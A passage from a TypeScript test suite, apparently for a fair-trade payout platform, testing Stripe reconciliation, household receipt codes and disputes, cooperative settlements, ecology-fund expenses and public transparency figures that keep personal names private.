    const again = await requestReconciliation({ periodStart: new Date(Date.now() - 3600_000), periodEnd: new Date(Date.now() + 60_000), projectId: null, trigger: "manual" });
    await runReconciliation(again.id);
    const contents = await db().reconciliationItem.findMany({ where: { runId: again.id, ledgerKey: { startsWith: "contents:" } } });
    expect(contents.map((i) => [i.status, i.stripeId, i.stripeAmountFen, i.ledgerAmountFen])).toEqual([["AMOUNT_MISMATCH", paid.id, BigInt(-paid.amount), BigInt(-paid.amount + 7)]]);
    carried.net += 7;
    // A run for one project leaves the platform's bank payouts out.
    expect((await reconcileProject(setup.project.id)).items.filter((i) => i.kind === "bank_payout")).toEqual([]);
  });

  it("shows revenue, amounts allocated and paid out per project and county, and each household's statement", async () => {
    const setup = await projectWithHouseholds([{ method: "stripe_connect", weight: 1 }, { method: "stripe_connect", weight: 3 }]);
    const order = await sell(setup, 10_000n, 1, 2_000n); // surplus 8,000: households 4,800
    await sell(setup, 5_000n, 1, 1_000n); // surplus 4,000: households 2,400
    await stripeClient().refunds.create({ payment_intent: order.paymentIntentId!, amount: 10_000 });
    await postOrderRefunded(order.id, 10_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    for (const payout of await db().payout.findMany({ where: { batchId: built.batchId } })) await payPayee(...jobFor(payout.id, 0));

    const { projects, counties } = await transparency();
    const figures = projects.find((p) => p.slug === setup.project.slug)!.figures;
    expect(figures).toEqual({ revenueFen: 5_000n, householdsAllocatedFen: 2_400n, ecologyFen: 1_000n, paidOutFen: 1_800n, households: 2, paidPayouts: 1, confirmedPayouts: 0 });
    const county = counties.find((c) => c.projects.some((p) => p.slug === setup.project.slug))!;
    expect(county.figures.revenueFen).toBe(county.projects.reduce((sum, p) => sum + p.figures.revenueFen, 0n));

    const statement = await householdStatement(setup.households[1]!.id);
    expect(statement!.allocations.map((a) => [a.fen, a.refund])).toEqual([
      [3_600n, false],
      [1_800n, false],
      [-3_600n, true],
    ]);
    expect(statement).toMatchObject({ allocatedFen: 1_800n, paidFen: 1_800n, owedFen: 0n });
  });
});

describe("household receipts", () => {
  /** A project's households paid through Connect (no workers: each payee's job run here), with their payouts. */
  async function paidHouseholds(count: number) {
    const setup = await projectWithHouseholds(Array.from({ length: count }, () => ({ method: "stripe_connect" as const })));
    await sell(setup, 10_000n * BigInt(count), 1, 1_000n);
    const built = await buildBatch({ projectId: setup.project.id, ...period(), builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const payouts = await db().payout.findMany({ where: { batchId: built.batchId }, orderBy: { household: { registrationCode: "asc" } } });
    for (const payout of payouts) await payPayee(...jobFor(payout.id, 0));
    return { ...setup, batchId: built.batchId, payouts };
  }
  const refusal = (promise: Promise<unknown>) => promise.then(() => "answered", (error: unknown) => (error instanceof Refused ? error.code : Promise.reject(error)));

  it("gives every payout its own code; the code shows its household's statement by month and product, without a name", async () => {
    const setup = await paidHouseholds(2);
    const codes = setup.payouts.map((p) => p.receiptCode);
    expect(new Set(codes).size).toBe(2);
    for (const code of codes) expect(normaliseReceiptCode(receiptCodeText(code).toLowerCase())).toBe(code);
    expect(normaliseReceiptCode("ABCD-EFGH-IJK0")).toBeNull(); // I and 0 are not in the alphabet
    expect(await receiptStatement("23456789ABCD")).toBeNull();

    const statement = await receiptStatement(codes[0]!);
    expect(statement).toMatchObject({
      payoutId: setup.payouts[0]!.id,
      household: { registrationCode: setup.households[0]!.registrationCode, village: "Village" },
      allocations: [{ productEn: "Honey", fen: setup.payouts[0]!.amountFen }],
      payouts: [{ id: setup.payouts[0]!.id, status: "PAID", receiptAnswer: null }],
      owedFen: 0n,
    });
    expect(statement!.allocations[0]!.month).toMatch(/^\d{4}-\d{2}$/);
    expect(JSON.stringify(statement, (_, v: unknown) => (typeof v === "bigint" ? String(v) : v))).not.toContain(setup.households[0]!.headName);
  });

  it("takes a household's confirmation once, and a problem (even after confirming) as one alarm; nothing before the money is paid", async () => {
    const setup = await paidHouseholds(2);
    const [first, second] = setup.payouts.map((p) => p.receiptCode);
    // Five taps at once: one is recorded, the others are told it already was.
    const taps = await Promise.all(Array.from({ length: 5 }, () => refusal(answerReceipt({ code: first!, answer: "CONFIRMED" }))));
    expect(taps.sort()).toEqual(["already_confirmed", "already_confirmed", "already_confirmed", "already_confirmed", "answered"]);

    // Found short later: a problem can still be reported, once, with one alarm for the operators.
    const reports = await Promise.all([1, 2, 3].map(() => refusal(answerReceipt({ code: first!, answer: "DISPUTED", note: "  got ¥80  " }))));
    expect(reports.sort()).toEqual(["already_disputed", "already_disputed", "answered"]);
    expect(await refusal(answerReceipt({ code: first!, answer: "CONFIRMED" }))).toBe("already_disputed");
    const alarms = await db().alarm.findMany({ where: { key: `receipt-disputed:${setup.payouts[0]!.id}` } });
    expect(alarms).toMatchObject([{ kind: "receipt_disputed", detail: { registrationCode: setup.households[0]!.registrationCode, amountFen: String(setup.payouts[0]!.amountFen), note: "got ¥80", byPhone: false } }]);
    expect(await db().payout.findUniqueOrThrow({ where: { id: setup.payouts[0]!.id } })).toMatchObject({ receiptAnswer: "DISPUTED", receiptNote: "got ¥80" });

    // A payout still on its way cannot be confirmed; an unknown code is not found.
    await db().payout.update({ where: { id: setup.payouts[1]!.id }, data: { status: "AWAITING_CONFIRMATION" } });
    expect(await refusal(answerReceipt({ code: second!, answer: "CONFIRMED" }))).toBe("not_paid_yet");
    await db().payout.update({ where: { id: setup.payouts[1]!.id }, data: { status: "PAID" } });
    expect(await refusal(answerReceipt({ code: "23456789ABCD", answer: "CONFIRMED" }))).toBe("receipt_not_found");
  });

  it("lists paid payouts nobody answered after the configured days, oldest first, until an operator writes the answer down", async () => {
    const setup = await paidHouseholds(3);
    // Every page of the list (other tests' payouts are on it too), this project's rows.
    const mine = async (now: Date) => {
      const rows = [];
      for (let page = 1; ; page++) {
        const list = await callList(page, now);
        rows.push(...list.rows);
        if (page * CALLS_PER_PAGE >= list.total) break;
      }
      return rows.filter((row) => setup.households.some((h) => h.id === row.household.id));
    };
    // Paid just now: not yet on the list; 15 days on (14 by default), all three are.
    expect(await mine(new Date())).toEqual([]);
    const later = new Date(Date.now() + 15 * 24 * 3600 * 1000);
    expect((await mine(later)).map((row) => row.household.registrationCode)).toEqual(setup.households.map((h) => h.registrationCode));

    await answerReceipt({ code: setup.payouts[0]!.receiptCode, answer: "CONFIRMED" });
    await answerReceipt({ code: setup.payouts[1]!.receiptCode, answer: "CONFIRMED", recordedById: setup.maker.id });
    expect((await mine(later)).map((row) => row.household.registrationCode)).toEqual([setup.households[2]!.registrationCode]);
    expect(await db().auditEvent.count({ where: { action: "receipt_record", subject: setup.payouts[1]!.id, actorId: setup.maker.id } })).toBe(1);

    // The public share counts both confirmations, of the three paid.
    const figures = (await transparency()).projects.find((p) => p.slug === setup.project.slug)!.figures;
    expect(figures).toMatchObject({ paidPayouts: 3, confirmedPayouts: 2 });
  });
});

describe("cooperative settlements", () => {
  it("pay each cooperative its unit cost for the period through the same flow; afterwards its payable is what is still unpaid, to the fen", async () => {
    const setup = await projectWithHouseholds([{ method: "disbursement_list" }]);
    await sell(setup, 10_000n, 3, 1_234n);
    const settlement = { ...period(), kind: "COOPERATIVES" as const, projectId: setup.project.id, minimumFen: 100n };
    const householdOwed = await owed(setup.households[0]!.id);
    const plan = await previewBatch(settlement);
    expect(plan.payees.map((p) => [p.payableKey, p.owedFen, p.method, p.held])).toEqual([[`cooperative:${setup.cooperative.id}`, 3_702n, "STRIPE_CONNECT", null]]);
    const built = await buildBatch({ ...settlement, builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    expect(await approveBatch(built.batchId, setup.maker.id)).toEqual({ ok: false, reason: "own_batch" });
    const [payout] = await db().payout.findMany({ where: { batchId: built.batchId } });
    expect(payout).toMatchObject({ cooperativeId: setup.cooperative.id, householdId: null, payableKey: `cooperative:${setup.cooperative.id}`, amountFen: 3_702n });
    // The households' share is not touched by a settlement.
    expect(await owed(setup.households[0]!.id)).toBe(householdOwed);

    expect(await payPayee(...jobFor(payout!.id, 0))).toMatchObject({ status: "paid" });
    expect(fake.transfers.filter((t) => t.transfer_group === built.batchId).map((t) => [t.amount, t.destination])).toEqual([[3_702, setup.cooperative.stripeAccountId]]);
    expect(await balanceOf(`cooperative:${setup.cooperative.id}`)).toBe(0n);

    // A sale after the period is still owed, and only it: a settlement for the same period pays nothing more.
    const periodEnd = new Date();
    await sell(setup, 5_000n, 1, 999n);
    expect(await balanceOf(`cooperative:${setup.cooperative.id}`)).toBe(-999n);
    expect((await previewBatch({ ...settlement, periodEnd })).payCount).toBe(0);
    expect(await buildBatch({ ...settlement, periodEnd, builtById: setup.maker.id })).toEqual({ ok: false, reason: "nothing_to_pay" });
    expect((await checkInvariants()).payables).toEqual({ mismatched: 0, examples: [] });
  });

  it("pay a cooperative without a Stripe account from the disbursement list, its name on the line and no receipt code", async () => {
    const setup = await projectWithHouseholds([{ method: "disbursement_list" }]);
    await db().cooperative.update({ where: { id: setup.cooperative.id }, data: { stripeAccountId: null } });
    await sell(setup, 10_000n, 1, 2_000n);
    const built = await buildBatch({ ...period(), kind: "COOPERATIVES", projectId: setup.project.id, minimumFen: 100n, builtById: setup.maker.id });
    if (!built.ok) throw new Error("nothing built");
    const [payout] = await db().payout.findMany({ where: { batchId: built.batchId } });
    expect(await payPayee(...jobFor(payout!.id, 0))).toEqual({ status: "awaiting-confirmation" });
    const [header, line] = parse(await disbursementCsv(built.batchId), { bom: true }) as string[][];
    const row = Object.fromEntries(header!.map((column, i) => [column, line![i]]));
    expect(row).toMatchObject({ payout_id: payout!.id, registration_code: "", head_of_household: "合作社", amount_fen: "2000", receipt_code: "" });
    // Its receipt code shows no household statement.
    expect(await receiptStatement(payout!.receiptCode)).toBeNull();
    const filled = stringify([header!, header!.map((column) => (column === "outcome" ? "paid" : column === "reference" ? "BANK-77" : row[column]!))]);
    expect(await confirmDisbursements(built.batchId, filled)).toMatchObject({ paid: 1, rejected: [] });
    expect(await balanceOf(`cooperative:${setup.cooperative.id}`)).toBe(0n);
  });
});

describe("the ecology fund", () => {
  async function fundedProject() {
    const setup = await projectWithHouseholds([{ method: "disbursement_list" }]);
    // A quarter of a 40,000-fen sale goes to the fund.
    await sell(setup, 40_000n);
    const patrol = await db().patrolLog.create({ data: { projectId: setup.project.id, occurredOn: new Date("2026-11-02"), route: "North stream", observations: "Takin tracks", recordedById: setup.maker.id } });
    return { ...setup, patrol };
  }
  const expense = (setup: Awaited<ReturnType<typeof fundedProject>>, amountFen: bigint, payee: ExpenseInput["payee"] = { cooperativeId: setup.cooperative.id }) => ({
    projectId: setup.project.id,
    category: "PATROL_WAGES" as const,
    description: "November patrols",
    amountFen,
    payee,
    record: { patrolLogId: setup.patrol.id },
    builtById: setup.maker.id,
  });
  const refusal = (promise: Promise<unknown>) => promise.then(() => "built", (error: unknown) => (error instanceof Refused ? error.code : Promise.reject(error)));

  it("pays an approved expense from the fund; above the balance it is refused, and two built at once never spend the same fen", async () => {
    const setup = await fundedProject();
    expect(await fundBalance(db(), setup.project.id)).toBe(10_000n);
    expect(await refusal(buildExpense(expense(setup, 1_000n)))).toBe("no_budget_line");
    await setBudgetLine({ projectId: setup.project.id, year: chinaYear(new Date()), category: "PATROL_WAGES", amountFen: 50_000n, by: setup.maker.id });
    const elsewhere = await fundedProject();
    expect(await refusal(buildExpense({ ...expense(setup, 1_000n), record: { patrolLogId: elsewhere.patrol.id } }))).toBe("record_not_found");
    expect(await refusal(buildExpense(expense(setup, 10_001n)))).toBe("above_fund");

    const both = await Promise.all([refusal(buildExpense(expense(setup, 6_000n))), refusal(buildExpense(expense(setup, 6_000n)))]);
    expect(both.sort()).toEqual(["above_fund", "built"]);
    expect(await fundBalance(db(), setup.project.id)).toBe(4_000n);

    const batch = await db().payoutBatch.findFirstOrThrow({ where: { projectId: setup.project.id, kind: "ECOLOGY" }, include: { payouts: true } });
    expect(await approveBatch(batch.id, setup.maker.id)).toEqual({ ok: false, reason: "own_batch" });
    expect(await approveBatch(batch.id, setup.checker.id)).toEqual({ ok: true });
    expect(await payPayee(...jobFor(batch.payouts[0]!.id, 0))).toMatchObject({ status: "paid" });
    expect(fake.transfers.filter((t) => t.transfer_group === batch.id).map((t) => [t.amount, t.destination])).toEqual([[6_000, setup.cooperative.stripeAccountId]]);

    const report = await fundReport(setup.project.id, chinaYear(new Date()), { paidOnly: true });
    expect(report.balanceFen).toBe(4_000n);
    expect(report.lines.find((l) => l.category === "PATROL_WAGES")).toMatchObject({ budgetFen: 50_000n, paidFen: 6_000n, underwayFen: 0n });
    expect(report.expenses).toMatchObject([{ description: "November patrols", amountFen: 6_000n, payee: { en: setup.cooperative.nameEn }, status: "PAID", record: { kind: "patrol", on: "2026-11-02", what: "North stream" } }]);
    expect((await checkInvariants()).payables).toEqual({ mismatched: 0, examples: [] });
  });

  it("keeps a person's name off the public page, and a cancelled or failed expense puts its amount back in the fund", async () => {
    const setup = await fundedProject();
    await setBudgetLine({ projectId: setup.project.id, year: chinaYear(new Date()), category: "PATROL_WAGES", amountFen: 50_000n, by: setup.maker.id });
    const toRanger = await buildExpense(expense(setup, 3_000n, { name: "Ranger Li Wei" }));
    const cancelled = await buildExpense(expense(setup, 2_000n));
    expect(await fundBalance(db(), setup.project.id)).toBe(5_000n);
    expect(await cancelBatch(cancelled.batchId, setup.checker.id)).toBe(true);
    expect(await fundBalance(db(), setup.project.id)).toBe(7_000n);

    const [payout] = await db().payout.findMany({ where: { batchId: toRanger.batchId } });
    expect(payout).toMatchObject({ method: "DISBURSEMENT_LIST", payableKey: `ecology-fund:${setup.project.id}` });
    expect(await approveBatch(toRanger.batchId, setup.checker.id)).toEqual({ ok: true });
    expect(await payPayee(...jobFor(payout!.id, 0))).toEqual({ status: "awaiting-confirmation" });
    const csv = await disbursementCsv(toRanger.batchId);
    expect(csv).toContain("Ranger Li Wei");
    const [header, line] = parse(csv, { bom: true }) as string[][];
    const filled = stringify([header!, line!.map((value, i) => (header![i] === "outcome" ? "paid" : header![i] === "reference" ? "CASH-12" : value))]);
    expect(await confirmDisbursements(toRanger.batchId, filled)).toMatchObject({ paid: 1 });

    const open = await fundReport(setup.project.id, chinaYear(new Date()), { paidOnly: true });
    expect(open.expenses).toHaveLength(1);
    expect(open.expenses[0]).toMatchObject({ amountFen: 3_000n, payee: null });
    expect(JSON.stringify(open, (_, value: unknown) => (typeof value === "bigint" ? String(value) : value))).not.toContain("Li Wei");
    const operators = await fundReport(setup.project.id, chinaYear(new Date()), { paidOnly: false });
    expect(operators.expenses.map((e) => e.status).sort()).toEqual(["CANCELLED", "PAID"]);
    expect(operators.lines.find((l) => l.category === "PATROL_WAGES")).toMatchObject({ paidFen: 3_000n, underwayFen: 0n });
  });
});

describe("the household registry", () => {
  it("is read a page at a time, in registration-code order, with the project's total", async () => {
    const setup = await projectWithHouseholds(Array.from({ length: HOUSEHOLDS_PER_PAGE + 1 }, () => ({ method: "disbursement_list" as const })));
    const first = await listHouseholds(setup.project.id, 1);
    const second = await listHouseholds(setup.project.id, 2);
    expect([first.households.length, second.households.length, first.total, first.pages]).toEqual([HOUSEHOLDS_PER_PAGE, 1, HOUSEHOLDS_PER_PAGE + 1, 2]);
    expect([...first.households, ...second.households].map((h) => h.id)).toEqual(setup.households.map((h) => h.id));
  });
});
